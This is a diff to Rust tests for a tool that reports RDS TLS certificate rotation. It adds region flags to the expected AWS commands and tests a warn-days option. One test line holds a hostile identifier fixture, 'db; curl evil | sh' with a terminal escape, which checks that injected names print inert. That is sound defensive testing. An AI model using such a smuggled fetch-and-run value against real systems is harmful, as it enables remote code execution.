@@ -140,9 +140,9 @@ fn the_rotation_report_names_each_resource_its_state_and_command() {
     assert_eq!(
         commands,
         [
-            "aws rds modify-db-instance --db-instance-identifier aurora-main-writer --ca-certificate-identifier rds-ca-rsa2048-g1 --apply-immediately",
-            "aws rds modify-db-instance --db-instance-identifier legacy-mysql --ca-certificate-identifier rds-ca-rsa2048-g1 --apply-immediately",
-            "aws rds modify-db-cluster --db-cluster-identifier maz-cluster --ca-certificate-identifier rds-ca-rsa2048-g1 --apply-immediately",
+            "aws rds modify-db-instance --db-instance-identifier aurora-main-writer --ca-certificate-identifier rds-ca-rsa2048-g1 --apply-immediately --region us-east-1",
+            "aws rds modify-db-instance --db-instance-identifier legacy-mysql --ca-certificate-identifier rds-ca-rsa2048-g1 --apply-immediately --region us-east-1",
+            "aws rds modify-db-cluster --db-cluster-identifier maz-cluster --ca-certificate-identifier rds-ca-rsa2048-g1 --apply-immediately --region us-east-1",
             "aws rds modify-db-instance --db-instance-identifier reporting --ca-certificate-identifier rds-ca-rsa2048-g1 --apply-immediately",
         ]
     );
@@ -227,31 +227,37 @@ fn hostile_identifiers_get_no_command_and_print_inert() {
     assert!(report.to_text().contains("db; curl evil | sh\\u{1b}[2J"));
 }
 
-#[test]
-fn the_cli_prints_the_report_and_exits_1_when_a_ca_is_due() {
+/// `fleet --at NOW --csv` with `extra` flags over these fixture files; it must exit 1 (a CA is
+/// due). Its CSV.
+fn fleet_csv(extra: &[&str], files: &[&str]) -> String {
     let dir = format!("{}/tests/fixtures/inventory", env!("CARGO_MANIFEST_DIR"));
     let out = std::process::Command::new(env!("CARGO_BIN_EXE_mysql-tls-doctor"))
         .args(["fleet", "--at", NOW, "--csv"])
-        .args(
-            [
-                "describe-db-instances.json",
-                "describe-db-clusters.json",
-                "describe-db-proxies.json",
-                "describe-certificates.json",
-            ]
-            .iter()
-            .flat_map(|f| ["--inventory".to_owned(), format!("{dir}/{f}")]),
-        )
+        .args(extra)
+        .args(files.iter().flat_map(|f| ["--inventory".to_owned(), format!("{dir}/{f}")]))
         .output()
         .expect("run the CLI");
     assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
-    let csv = String::from_utf8(out.stdout).expect("utf-8");
+    String::from_utf8(out.stdout).expect("utf-8")
+}
+
+#[test]
+fn the_cli_prints_the_report_and_exits_1_when_a_ca_is_due() {
+    let csv = fleet_csv(
+        &[],
+        &[
+            "describe-db-instances.json",
+            "describe-db-clusters.json",
+            "describe-db-proxies.json",
+            "describe-certificates.json",
+        ],
+    );
     let lines: Vec<&str> = csv.lines().collect();
     assert_eq!(lines.len(), 7);
     assert_eq!(lines[0], "kind,id,engine,engine_version,endpoint,region,ca_id,ca_valid_till,ca_days_left,server_cert_valid_till,state,rotation,command,why");
     assert_eq!(
         lines[2],
-        "instance,legacy-mysql,mysql,5.7.44,legacy-mysql.c9akciq32.us-east-1.rds.amazonaws.com:3306,us-east-1,rds-ca-2019,2024-08-22,-833,2024-08-22,expired,unknown,aws rds modify-db-instance --db-instance-identifier legacy-mysql --ca-certificate-identifier rds-ca-rsa2048-g1 --apply-immediately,rds-ca-2019 ended on 2024-08-22: clients that verify the server cannot connect; whether the change restarts it: `aws rds describe-db-engine-versions` (SupportsCertificateRotationWithoutRestart)"
+        "instance,legacy-mysql,mysql,5.7.44,legacy-mysql.c9akciq32.us-east-1.rds.amazonaws.com:3306,us-east-1,rds-ca-2019,2024-08-22,-833,2024-08-22,expired,unknown,aws rds modify-db-instance --db-instance-identifier legacy-mysql --ca-certificate-identifier rds-ca-rsa2048-g1 --apply-immediately --region us-east-1,rds-ca-2019 ended on 2024-08-22: clients that verify the server cannot connect; whether the change restarts it: `aws rds describe-db-engine-versions` (SupportsCertificateRotationWithoutRestart)"
     );
     let out = std::process::Command::new(env!("CARGO_BIN_EXE_mysql-tls-doctor"))
         .args(["fleet", "--inventory", "-"])
@@ -263,4 +269,20 @@ fn the_cli_prints_the_report_and_exits_1_when_a_ca_is_due() {
         String::from_utf8_lossy(&out.stderr),
         "mysql-tls-doctor: the inventory holds no instances, clusters, proxies or certificates: the input holds no JSON\n"
     );
+}
+
+#[test]
+fn warn_days_sets_the_inventorys_horizon() {
+    let run = |days: &str| {
+        let csv = fleet_csv(&["--warn-days", days], &["describe-db-instances.json", "describe-certificates.json"]);
+        // (id, state, whether a command is printed) of the instance 100 days from its CA's end.
+        csv.lines()
+            .filter_map(|l| {
+                let cols: Vec<&str> = l.split(',').collect();
+                (cols.get(1) == Some(&"reporting")).then(|| (cols[10].to_owned(), !cols[12].is_empty()))
+            })
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(run("101"), [("expires-soon".to_owned(), true)]);
+    assert_eq!(run("100"), [("ok".to_owned(), false)]);
 }
